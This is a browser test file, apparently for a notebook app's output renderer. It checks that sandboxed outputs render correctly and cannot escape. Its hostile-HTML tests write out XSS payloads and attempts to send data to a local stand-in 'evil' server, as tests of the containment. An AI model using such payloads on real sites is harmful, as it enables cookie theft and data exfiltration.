/**
 * Outputs in a real browser, behind the policies that the server sends: what is drawn, and that nothing gets out.
 * `SCREENSHOTS=folder` keeps a picture of each.
 */
import { createSocket } from 'node:dgram';
import { once } from 'node:events';
import { mkdtemp, readFile, rm } from 'node:fs/promises';
import { createServer, type Server } from 'node:http';
import { tmpdir } from 'node:os';
import { extname, join, resolve } from 'node:path';
import { type Browser, chromium, type Frame, type Locator, type Page } from 'playwright-core';
import { build } from 'vite';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';

const web = resolve(import.meta.dirname, '..');
const types: Record<string, string> = {
  '.html': 'text/html',
  '.js': 'text/javascript',
  '.css': 'text/css',
};

let folder: string;
let app: Server;
let evil: Server;
let browser: Browser;
let origin: string;
let evilOrigin: string;
let evilPort: number;
let evilHits: string[] = [];
const datagrams = createSocket('udp4');

async function listen(server: Server): Promise<number> {
  server.listen(0, '127.0.0.1');
  await once(server, 'listening');
  const address = server.address();
  if (typeof address !== 'object' || !address) throw new Error('no address');
  return address.port;
}

beforeAll(async () => {
  folder = await mkdtemp(join(tmpdir(), 'outputs-'));
  const outDir = join(folder, 'dist');
  await build({
    configFile: join(web, 'test/harness/vite.config.ts'),
    logLevel: 'error',
    build: { outDir },
  });
  await build({
    root: web,
    configFile: join(web, 'vite.frame.config.ts'),
    logLevel: 'error',
    build: { outDir },
  });

  app = createServer((request, response) => {
    const path = new URL(request.url ?? '/', 'http://x').pathname;
    const file = path === '/' ? '/index.html' : path;
    readFile(join(outDir, file)).then(
      (body) => {
        response.setHeader('content-type', types[extname(file)] ?? 'application/octet-stream');
        if (file === '/output-frame.html')
          response.setHeader('content-security-policy', framePolicy());
        else if (file === '/index.html') {
          response.setHeader(
            'content-security-policy',
            "default-src 'self'; style-src 'self' 'unsafe-inline'; img-src 'self' data: blob:; font-src 'self' data:; frame-src 'self'",
          );
        }
        if (file.startsWith('/frame/')) response.setHeader('access-control-allow-origin', '*');
        response.setHeader('x-dns-prefetch-control', 'off');
        response.end(body);
      },
      () => response.writeHead(404).end(),
    );
  });
  origin = `http://127.0.0.1:${await listen(app)}`;
  evil = createServer((request, response) => {
    evilHits.push(request.url ?? '');
    response.setHeader('access-control-allow-origin', '*');
    response.end('1');
  });
  evilPort = await listen(evil);
  evilOrigin = `http://127.0.0.1:${evilPort}`;
  datagrams.on('message', () => evilHits.push('datagram'));
  datagrams.bind(evilPort, '127.0.0.1');
  browser = await chromium.launch({
    executablePath: process.env.CHROMIUM ?? '/usr/bin/chromium',
    args: [
      '--no-sandbox',
      '--disable-gpu',
      '--disable-quic',
      '--no-first-run',
      '--disable-background-networking',
      '--disable-component-update',
      '--disable-sync',
    ],
  });
}, 120_000);

afterAll(async () => {
  await browser?.close();
  app?.close();
  evil?.close();
  datagrams.close();
  await rm(folder, { recursive: true, force: true });
});

function framePolicy(): string {
  return [
    'sandbox allow-scripts',
    "default-src 'none'",
    `script-src 'self' 'unsafe-inline' 'unsafe-eval' blob: data: ${origin}`,
    `style-src 'unsafe-inline' ${origin}`,
    'img-src data: blob:',
    `font-src data: ${origin}`,
    "connect-src 'none'",
    "frame-src 'none'",
    "require-trusted-types-for 'script'",
    'trusted-types default',
    "form-action 'none'",
    "base-uri 'none'",
  ].join('; ');
}

interface Given {
  theme?: 'light' | 'dark';
  outputs?: { data: Record<string, unknown> }[];
  console?: string;
  status?: 'success' | 'running';
  error?: unknown;
}

async function open(given: Given): Promise<Page> {
  const page = await browser.newPage({ viewport: { width: 820, height: 700 } });
  await page.addInitScript(
    (value) => {
      if (window.parent === window) Reflect.set(window, 'given', value);
    },
    { theme: 'light', outputs: [], ...given },
  );
  await page.goto(origin);
  return page;
}

async function frameOf(page: Page): Promise<Frame> {
  const element = await page.waitForSelector('iframe', { state: 'attached' });
  const frame = await element.contentFrame();
  if (!frame) throw new Error('no frame');
  return frame;
}

async function openHtml(html: string): Promise<{ page: Page; frame: Frame }> {
  const page = await open({ outputs: [{ data: { 'text/html': html } }] });
  return { page, frame: await frameOf(page) };
}

describe('hostile HTML', () => {
  test.each([
    ['the app page', 'parent.document.title'],
    ['the top location', "top.location = 'about:blank'"],
    ['local storage', 'localStorage.length'],
    ['cookies', 'document.cookie'],
  ])('D1, D2: it cannot reach %s', async (_, code) => {
    const { page, frame } = await openHtml(
      `<p id="verdict"></p><script>try { ${code}; verdict.textContent = 'reached' } catch { verdict.textContent = 'refused' }</script>`,
    );
    await frame.waitForSelector('#verdict:not(:empty)');
    expect(await frame.textContent('#verdict')).toBe('refused');
    expect(page.url()).toBe(`${origin}/`);
    await page.close();
  });

  test('D2: it opens no window', async () => {
    const { page, frame } = await openHtml(
      '<p id="verdict"></p><script>verdict.textContent = String(window.open("about:blank"))</script>',
    );
    await frame.waitForSelector('#verdict:not(:empty)');
    expect(await frame.textContent('#verdict')).toBe('null');
    await page.close();
  });

  test('D3: no request of the page or its scripts leaves it', async () => {
    evilHits = [];
    const { page, frame } = await openHtml(`
      <img src="${evilOrigin}/img"><link rel="stylesheet" href="${evilOrigin}/css"><link rel="prefetch" href="${evilOrigin}/prefetch">
      <style>@import "${evilOrigin}/import"; p { background: url(${evilOrigin}/background) }</style>
      <iframe src="${evilOrigin}/frame"></iframe><object data="${evilOrigin}/object"></object><video src="${evilOrigin}/video"></video>
      <form id="f" action="${evilOrigin}/form"></form><script src="${evilOrigin}/script"></script><p id="verdict"></p>
      <script>
        (async () => {
          f.submit();
          navigator.sendBeacon?.('${evilOrigin}/beacon');
          try { new WebSocket('ws://127.0.0.1:${evilPort}/socket') } catch {}
          try { new EventSource('${evilOrigin}/events') } catch {}
          try {
            const peer = new RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.1:${evilPort}' }] });
            peer.createDataChannel('x');
            await peer.setLocalDescription(await peer.createOffer());
          } catch {}
          const outcomes = await Promise.allSettled([fetch('${evilOrigin}/fetch'), import('${evilOrigin}/module'), fetch('${origin}/')]);
          verdict.textContent = outcomes.map((outcome) => outcome.status).join(' ');
        })();
      </script>`);
    await frame.waitForSelector('#verdict:not(:empty)');
    expect(await frame.textContent('#verdict')).toBe('rejected rejected rejected');
    // A request that gets through proves that the listener would have heard the others.
    await page.evaluate(() => new Promise((done) => setTimeout(done, 0)));
    await fetch(`${evilOrigin}/control`);
    expect(evilHits).toEqual(['/control']);
    await page.close();
  });

  test.each([
    ['a script', '<script>location = "EVIL/navigated"</script>'],
    ['a refresh', '<meta http-equiv="refresh" content="0;url=EVIL/refreshed">'],
  ])('D3: %s cannot take it elsewhere', async (_, html) => {
    evilHits = [];
    const { page } = await openHtml(html.replace('EVIL', evilOrigin));
    await page.waitForSelector('text=This output left its page');
    expect(evilHits).toEqual([]);
    await page.close();
  });

  test('D11: a flood and a huge height change nothing but the frame', async () => {
    const page = await open({
      outputs: [
        {
          data: {
            'text/html': `<div style="height:1000000px"></div><script>
              for (let n = 0; n < 1000; n++) parent.postMessage({ type: 'height', heightPx: 5 }, '*');
              const post = MessagePort.prototype.postMessage;
              MessagePort.prototype.postMessage = function (message) { for (let n = 0; n < 1000; n++) post.call(this, { type: 'height', heightPx: 1e9 }) };
            </script>`,
          },
        },
      ],
    });
    await page.waitForSelector('text=too many messages');
    const height = await page.$eval('iframe', (frame) => frame.getBoundingClientRect().height);
    expect(height).toBeLessThanOrEqual(20_000);
    await page.close();
  });
});

describe('D7: charts', () => {
  test('data from an address is refused, and said so', async () => {
    evilHits = [];
    const spec = { data: { url: `${evilOrigin}/data.json` }, mark: 'bar', encoding: {} };
    const page = await open({ outputs: [{ data: { 'application/vnd.vegalite.v6+json': spec } }] });
    await page.waitForSelector('text=This chart loads');
    expect(evilHits).toEqual([]);
    await page.close();
  });
});

test('the table of a cell that runs says when it can be sorted', async () => {
  const outputs = [{ data: { 'application/vnd.rnb.table+json': 'demo' } }];
  const page = await open({ outputs, status: 'running' });
  await page.getByText('You can sort and filter when the cell has ended').waitFor();
  await page.getByText('You can see the others when the cell has ended.').waitFor();
  expect(await page.getByRole('searchbox').count()).toBe(0);
  await page.close();
});

test('Markdown and text hold no live HTML', async () => {
  const payload =
    '<img src=x onerror="window.owned=1">[x](javascript:owned=1)<script>owned=1</script>';
  const page = await open({
    outputs: [{ data: { 'text/markdown': payload } }, { data: { 'text/plain': payload } }],
    error: { kind: 'exception', name: payload, message: payload, traceback: [], hint: payload },
  });
  await page.waitForSelector('.out-markdown:not(:empty)');
  expect(await page.evaluate(() => Reflect.get(window, 'owned'))).toBeUndefined();
  expect(await page.$$('.out-cell img, .out-cell script, .out-cell [href^=javascript]')).toEqual(
    [],
  );
  await page.close();
});

test('long text shows its end, all of it on demand, and where one was when less is shown again', async () => {
  const lines = Array.from({ length: 899 }, (_, line) => `line ${line}`);
  const outputs = Array.from({ length: 40 }, (_, n) => ({ data: { 'text/plain': `output ${n}` } }));
  const page = await open({ outputs, console: `${lines.join('\n')}\n` });
  const [first, last] = [page.getByText('line 0', { exact: true }), page.getByText('line 898')];
  const button = page.getByRole('button', { name: 'Show all 900 lines' });
  await button.waitFor();
  const isSeen = (locator: Locator) =>
    locator.evaluate((element) => {
      const { top, bottom } = element.getBoundingClientRect();
      const box = element.closest('.out-cut')?.getBoundingClientRect();
      return bottom > (box?.top ?? 0) && top < Math.min(box?.bottom ?? Infinity, innerHeight);
    });
  await expect.poll(() => isSeen(last)).toBe(true);
  expect(await isSeen(first)).toBe(false);
  await button.click();
  await expect.poll(() => isSeen(first)).toBe(true);

  const selected = await page
    .locator('.out-console')
    .first()
    .evaluate((text) => {
      getSelection()?.selectAllChildren(text);
      return getSelection()?.toString();
    });
  expect(selected?.trimEnd()).toBe([...lines, 'a warning'].join('\n'));

  const less = page.getByRole('button', { name: 'Show less' });
  await less.click();
  await expect.poll(() => isSeen(button)).toBe(true);
  expect(await isSeen(last)).toBe(true);
  await page.close();
});

test('a table of 100,000 rows is scrolled and filtered with few nodes', async () => {
  const page = await open({ outputs: [{ data: { 'application/vnd.rnb.table+json': 'demo' } }] });
  await page.waitForSelector('td:has-text("<b>row 3</b>")');
  await page.$eval('.out-grid', (grid) => grid.scrollTo(0, 50_000 * 28));
  await page.waitForSelector('td:has-text("<b>row 50003</b>")');
  expect((await page.$$('.out-grid tr')).length).toBeLessThan(60);
  await page.fill('input[type=search]', 'row 99999');
  await page.waitForSelector('text=1 row of 100,000');
  await page.close();
});

test('a missing value looks unlike text of the same letters, and columns have their types', async () => {
  const table = {
    columns: [
      { name: 'text', type: 'text', dtype: 'str', missing: 'NaN' },
      { name: 'number', type: 'number', dtype: 'Float64' },
      { name: 'any', type: 'other', dtype: 'object', missing: 'None' },
    ],
    rowCount: 2,
    columnCount: 3,
    rows: [
      ['NaN', 'NaN', { missing: '<NA>' }],
      [null, null, null],
    ],
  };
  const page = await open({ outputs: [{ data: { 'application/vnd.rnb.table+json': table } }] });
  await page.waitForSelector('td');
  const cells = (of: string) => page.locator(of).allInnerTexts();
  expect(await cells('td')).toEqual(['NaN', 'NaN', '<NA>', 'NaN', 'null', 'None']);
  expect(await cells('td .out-null')).toEqual(['NaN', '<NA>', 'NaN', 'null', 'None']);
  expect(await cells('th .out-dtype')).toEqual(['str', 'Float64', 'object']);
  await page.close();
});

test('a table is taken away whole, in the filter and order that it shows', async () => {
  const page = await open({ outputs: [{ data: { 'application/vnd.rnb.table+json': 'demo' } }] });
  await page.fill('input[type=search]', 'row 9');
  await page.waitForSelector('text=11,111 rows of 100,000');
  await page.click('th:first-child button');
  await page.click('th:first-child button');
  await page.waitForSelector('td:has-text("<b>row 99999</b>")');
  const [download] = await Promise.all([
    page.waitForEvent('download'),
    page.click('text=Download CSV'),
  ]);
  const lines = (await readFile(await download.path(), 'utf8')).split('\r\n');
  expect(lines).toHaveLength(1 + 11_111);
  expect(lines[1]).toMatch(/^99999,.*row 99999/);
  expect(lines.at(-1)).toMatch(/^9,.*row 9</);
  await page.context().grantPermissions(['clipboard-read', 'clipboard-write']);
  await page.click('text=Copy rows');
  await page.waitForSelector('text=Copied');
  const copied = await page.evaluate(() => navigator.clipboard.readText());
  expect(copied.split(/\r?\n/)).toHaveLength(1 + 11_111);
  await page.close();
});

const bars = [
  { a: 'A', b: 28 },
  { a: 'B', b: 55 },
  { a: 'C', b: 43 },
];
const svg =
  '<svg xmlns="http://www.w3.org/2000/svg" width="120" height="40"><rect width="120" height="40" fill="teal"/><script>alert(1)</script></svg>';
const kinds: [string, Given, string, string][] = [
  [
    'console',
    { console: 'plain \x1b[32mgreen \x1b[1;31mbold red\x1b[0m\n10%\r100%\n' },
    '.out-console',
    '',
  ],
  [
    'error',
    {
      error: {
        kind: 'exception',
        name: 'ZeroDivisionError',
        message: 'division by zero',
        hint: 'Check the divisor.',
        traceback: [{ cell: 'c1', file: null, line: 3, function: 'ratio', source: 'return a / b' }],
      },
    },
    '.out-error',
    '',
  ],
  ['table', { outputs: [{ data: { 'application/vnd.rnb.table+json': 'demo' } }] }, 'td', ''],
  [
    'json',
    { outputs: [{ data: { 'application/json': { a: [1, 2, null], text: 'x', on: true } } }] },
    '.out-json-row',
    '',
  ],
  ['svg', { outputs: [{ data: { 'image/svg+xml': svg } }] }, '.out-image', ''],
  [
    'markdown',
    {
      outputs: [
        {
          data: {
            'text/markdown':
              '# Title\n\nText with $x^2$, `code` and [a link](https://example.com).\n\n$$\n\\int_0^1 x\\,dx\n$$\n\n|a|b|\n|-|-|\n|1|2|\n|\u2063⚠ \\{x\\} E\\: a \\| b\u2064|3|\n\nA lone ` before \u2063⚠ \\{x\\} E\\: &#96;a&#96; \\*\\*b\\*\\*\u2064.',
          },
        },
      ],
    },
    '.katex',
    '',
  ],
  ['latex', { outputs: [{ data: { 'text/latex': '$\\frac{a}{b}$' } }] }, '.katex', ''],
  [
    'html',
    {
      outputs: [
        {
          data: {
            'text/html':
              '<table class="dataframe"><thead><tr><th>a</th><th>b</th></tr></thead><tbody><tr><td>1</td><td>2</td></tr></tbody></table>',
          },
        },
      ],
    },
    '',
    'table',
  ],
  [
    'vega',
    {
      outputs: [
        {
          data: {
            'application/vnd.vegalite.v6+json': {
              width: 300,
              data: { values: bars },
              mark: 'bar',
              encoding: { x: { field: 'a' }, y: { field: 'b', type: 'quantitative' } },
            },
          },
        },
      ],
    },
    '',
    'svg.marks',
  ],
  [
    'plotly',
    {
      outputs: [
        {
          data: {
            'application/vnd.plotly.v1+json': {
              data: [{ type: 'bar', x: ['A', 'B'], y: [1, 3] }],
              layout: { title: { text: 'Bars' } },
            },
          },
        },
      ],
    },
    '',
    '.main-svg',
  ],
  ['unknown', { outputs: [{ data: { 'application/x-none': 1 } }] }, '.out-notice', ''],
];

describe.each(['light', 'dark'] as const)('in %s', (theme) => {
  test.each(kinds)('%s is drawn', async (name, given, inPage, inFrame) => {
    const page = await open({ theme, ...given });
    if (inPage) await page.waitForSelector(inPage);
    if (inFrame) await (await frameOf(page)).waitForSelector(inFrame);
    expect(await page.$$('.out-frame .out-notice')).toEqual([]);
    const shots = process.env.SCREENSHOTS;
    if (shots) await page.screenshot({ path: join(shots, `${name}-${theme}.png`) });
    await page.close();
  });
});

test.each(['vega', 'plotly'])(
  'a %s chart is saved as a picture, when it is asked for',
  async (name) => {
    const given = kinds.find(([kind]) => kind === name)?.[1] ?? {};
    const page = await open({ theme: 'dark', ...given });
    await (await frameOf(page)).waitForSelector('svg');
    const [download] = await Promise.all([
      page.waitForEvent('download'),
      page.click('text=Download PNG'),
    ]);
    expect(download.suggestedFilename()).toBe('chart.png');
    const file = await readFile(await download.path());
    const pixels = await page.evaluate(
      async (address) => {
        const image = new Image();
        image.src = address;
        await image.decode();
        const canvas = new OffscreenCanvas(image.width, image.height);
        const pen = canvas.getContext('2d');
        pen?.drawImage(image, 0, 0);
        const corner = [...(pen?.getImageData(1, 1, 1, 1).data ?? [])];
        return { width: image.width, corner };
      },
      `data:image/png;base64,${file.toString('base64')}`,
    );
    expect(pixels.width).toBeGreaterThan(600);
    // Opaque and as dark as the app.
    expect(pixels.corner[3]).toBe(255);
    expect(pixels.corner[0]).toBeLessThan(80);
    await page.close();
  },
);

test('a picture that nobody asked for is not saved', async () => {
  const page = await open({
    outputs: [
      {
        data: {
          'text/html': `<p id="sent">sent</p><script>
            const post = MessagePort.prototype.postMessage;
            const png = new Uint8Array([137, 80, 78, 71, 13, 10, 26, 10]);
            MessagePort.prototype.postMessage = function (message) { post.call(this, { type: 'picture', png }); post.call(this, { type: 'failed', message: 'both were sent' }) };
          </script>`,
        },
      },
    ],
  });
  const saved: string[] = [];
  page.on('download', (download) => saved.push(download.suggestedFilename()));
  await page.waitForSelector('text=both were sent');
  // A download of the page's own: had there been another, it would have been the first.
  const [own] = await Promise.all([
    page.waitForEvent('download'),
    page.evaluate(() => {
      const link = document.createElement('a');
      link.href = URL.createObjectURL(new Blob(['x']));
      link.download = 'own.txt';
      link.click();
    }),
  ]);
  expect(own.suggestedFilename()).toBe('own.txt');
  expect(saved).toEqual(['own.txt']);
  await page.close();
});

test('a plotly chart has its height also while plotly measures what room there is', async () => {
  const page = await open({
    outputs: [
      {
        data: {
          'application/vnd.plotly.v1+json': {
            data: [{ type: 'bar', x: ['A', 'B'], y: [1, 3] }],
            layout: { height: 360 },
          },
        },
      },
    ],
  });
  const frame = await frameOf(page);
  await frame.waitForSelector('.main-svg .bars path');
  // What plotly does when the width changes.
  const heightPx = await frame.evaluate(() => {
    document.querySelector<HTMLElement>('.svg-container')?.style.setProperty('height', '100%');
    return document.documentElement.getBoundingClientRect().height;
  });
  expect(heightPx).toBe(360);
  await page.close();
});
